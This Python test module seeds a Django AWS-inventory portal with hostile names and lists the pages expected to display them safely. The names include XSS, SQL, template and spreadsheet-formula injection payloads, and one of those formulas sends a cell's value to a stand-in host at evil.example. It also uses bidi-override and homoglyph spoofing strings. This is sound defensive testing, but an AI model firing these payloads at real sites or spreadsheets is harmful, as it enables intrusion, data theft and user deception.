"""Names that people and attackers give, stored everywhere that the portal keeps a name, and how a page shows them."""

import json
import unicodedata
from datetime import timedelta
from pathlib import Path
from typing import Any

from django.contrib.auth.models import Group, User
from django.urls import reverse
from django.utils import timezone

from accounts.models import CredentialProfile, Membership, Role
from awscheck.aws import Identity
from collection.models import Collection, Export, Inventory, ResourceVersion, SavedSearch, Schedule, Tally, Worker
from collection.reviewing import review
from collection.search.indexing import catch_up
from tests.collection.factories import (
    ACCOUNT,
    instance,
    make_collection,
    make_outcome,
    make_profile,
    make_reading,
    queue,
)

NAMES = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '"><svg onload=alert(3)>',
    "' autofocus onfocus='alert(4)",
    "</title></textarea></select></script><script>alert(5)</script>",
    "javascript:alert(6)",
    "gnp.\u202etxt.exe invoice",  # turned round from here on, and never turned back
    "\u2067isolated and never closed",
    "ze\u200bro\u200dwi\ufeffdth\u00ad",
    "\u05e9\u05dc\u05d5\u05dd web-1 \u0645\u0631\u062d\u0628\u0627",
    "long-" + "x" * 295,
    "\U0001f9e8 \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1f0\U0001f1f7",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "{{ 7*7 }}{% debug %}${7*7}#{7*7}",
    "nul \u2400 \\0 %00 \x01 \ufffd \\u0000",
    "&lt;b&gt;bold&lt;/b&gt; &amp;nbsp; &#39;",
    "'; DROP TABLE collection_collection; --",
    "two\nlines\tand a tab",
    "\u0430dmin p\u0430yp\u0430l",  # а of Cyrillic
)
LOOK = Path(__file__).parent / "names.js"
SHORTEST_CUT = 30  # signs of a long name that a page shows at least


def store(owner: User) -> tuple[Collection, Collection]:
    """All of it, owner's; two collections of one account, between which all tags changed and one instance went."""
    profiles = [make_profile(owner, name[:100]) for name in NAMES]
    for number, profile in enumerate(profiles):
        account = ACCOUNT if number < 2 else f"{number:012}"
        profile.note_identity(Identity(account, f"arn:aws:iam::{account}:user/{profile.name}", "aws", "AIDA"))
    CredentialProfile.objects.create_role(owner, "by a role")
    for number, (name, profile) in enumerate(zip(NAMES, profiles, strict=True)):
        _store_one(owner, name, profile)
        if number:
            make_outcome(make_collection(owner, profile, name=name[:200], note=name), "sqs.queue")
    old, new = _store_resources(owner, profiles)
    _store_overview(new)
    catch_up()
    return old, new


def _store_one(owner: User, name: str, profile: CredentialProfile) -> None:
    """What has one row for each name."""
    now = timezone.now()
    team = Group.objects.create(name=name[:150])
    Membership.put(owner, team, Role.MANAGER)
    profile.teams.add(team)
    SavedSearch.objects.create(owner=owner, name=name[:100], team=team, query="q=web")
    Export.objects.create(
        owner=owner, title=name[:200], format="csv", state="done", rows=3, size=2048, what={},
        expires_at=now + timedelta(hours=24),
    )  # fmt: skip
    schedule = Schedule.objects.create(
        owner=owner, name=name[:200], cron="0 2 * * *", services=["ec2"], regions=["all"],
        next_due_at=now + timedelta(hours=1),
    )  # fmt: skip
    schedule.profiles.add(profile)


def _store_resources(owner: User, profiles: list[CredentialProfile]) -> tuple[Collection, Collection]:
    old, new = (
        make_collection(owner, profiles[0], name=NAMES[number], note=NAMES[0], state="partial") for number in (6, 0)
    )
    for collection, turn in ((old, 0), (new, 1)):
        found = [_instance(number, NAMES[(number + turn) % len(NAMES)]) for number in range(len(NAMES) - turn)]
        make_reading(collection, "ec2.instance", found)
        make_reading(collection, "sqs.queue", [queue("orders", Policy=json.dumps({"Statement": list(NAMES)}))])
        make_outcome(
            collection, "ec2.vpc", "eu-west-1", reason="permission", code="UnauthorizedOperation", message=NAMES[0],
            action="ec2:DescribeVpcs",
        )  # fmt: skip
        for name in NAMES:
            review(collection, owner, "needs_action", name)
    return old, new


def _instance(number: int, tagged: str) -> dict[str, Any]:
    """An instance with a hostile name that stays, and a tag and a field that change."""
    tags = [{"Key": "Name", "Value": NAMES[number]}, {"Key": tagged, "Value": tagged}]
    return instance(number + 1, Tags=tags, Note=tagged, State={"Name": tagged, "Code": 16})


def _store_overview(collection: Collection) -> None:
    for days in range(5):
        day = timezone.now().date() - timedelta(days=days)
        Tally.objects.create(estate=collection.estate, day=day, added=days, changed=3, removed=1)
    Worker.note(NAMES[0], 7, concurrency=4, running=1, started_at=timezone.now())


def places(old: Collection, new: Collection) -> dict[str, int]:
    """Every page, and how many of the names stand on it at least."""
    name = reverse
    all_, some = len(NAMES), 1
    version = ResourceVersion.objects.get(name=NAMES[0], valid_to=None)
    other = ResourceVersion.objects.get(inventory__kind="sqs.queue")
    profile = old.profile
    assert profile is not None
    role = CredentialProfile.objects.get(role_arn="", auth_type="role_arn")
    schedule = Schedule.objects.earliest("pk")
    export = Export.objects.earliest("created_at")
    pair = f"{name('compare')}?old={old.pk}&new={new.pk}"
    kind, in_new = "kind=ec2.instance", f"collection={new.pk}"
    instances = Inventory.objects.get(kind="ec2.instance")
    return {
        name("home"): some,
        name("overview"): some,
        name("collections"): all_ - 1,
        name("new-collection"): all_,
        name("collection", args=[new.pk]) + "?open=ec2": some,
        name("collection-edit", args=[new.pk]): some,
        name("collection-delete", args=[new.pk]): some,
        name("resources"): 0,
        f"{name('resources')}?{in_new}": some,
        f"{name('resources')}?{kind}": all_,
        f"{name('resources')}?{kind}&{in_new}&f=tag.Name%3F": all_,
        f"{name('resource-columns')}?{kind}": 0,
        name("resource", args=[version.pk]): 2,
        f"{name('resource', args=[other.pk])}?{in_new}": some,
        name("resource-related", args=[version.pk]): some,
        name("search"): all_,
        f"{name('search')}?f=service%3Dec2": all_,
        f"{name('search')}?q=web&{in_new}": some,
        f"{name('search')}?q=%3Cscript%3Ealert(1)&f=tag.Name%3D%3Cscript%3E": some,
        f"{name('search')}?f=Size%3E": all_,
        name("compare"): all_ - 1,
        pair: some,
        f"{pair}&{kind}": all_,
        name("exports"): all_,
        name("export", args=[export.pk]): some,
        name("profiles"): all_,
        name("profile", args=[profile.pk]): some,
        name("profile-share", args=[profile.pk]): some,
        name("profile-edit", args=[profile.pk]): some,
        name("profile-rotate", args=[profile.pk]): some,
        name("profile-delete", args=[profile.pk]): some,
        name("teams"): all_,
        name("team", args=[profile.teams.earliest("pk").pk]): 2,
        name("profile-connect", args=[role.pk]): 0,
        name("aws"): all_,
        name("schedules"): all_,
        name("schedule", args=[schedule.pk]): some,
        name("schedule-add"): all_,
        name("catalogue"): 0,
        name("catalogue-service", args=["ec2"]): 0,
        name("permissions"): 0,
        name("status"): some,
        name("preferences"): 0,
        "/password/": 0,
        name("teams"): all_,
        name("team", args=[Group.objects.get(name=NAMES[0]).pk]): some,
        name("tokens"): 0,
        name("token-add"): 0,
        name("audit"): some,
        name("audit-mine"): 0,
        name("admin:index"): 0,
        name("admin:collection_collection_changelist"): all_ - 1,
        name("admin:collection_collection_change", args=[new.pk]): all_ - 1,
        f"{name('admin:collection_resourceversion_changelist')}?inventory={instances.pk}": all_,
        "/login": 0,
    }


def shown(page: Any) -> dict[str, Any]:
    """How many of the names the page shows as they are stored (long ones cut), and where they are mixed with more."""
    starts = [[unicodedata.normalize("NFC", name), name[:SHORTEST_CUT].strip()] for name in NAMES]
    found: dict[str, Any] = page.evaluate(LOOK.read_text(encoding="utf-8"), starts)
    return found
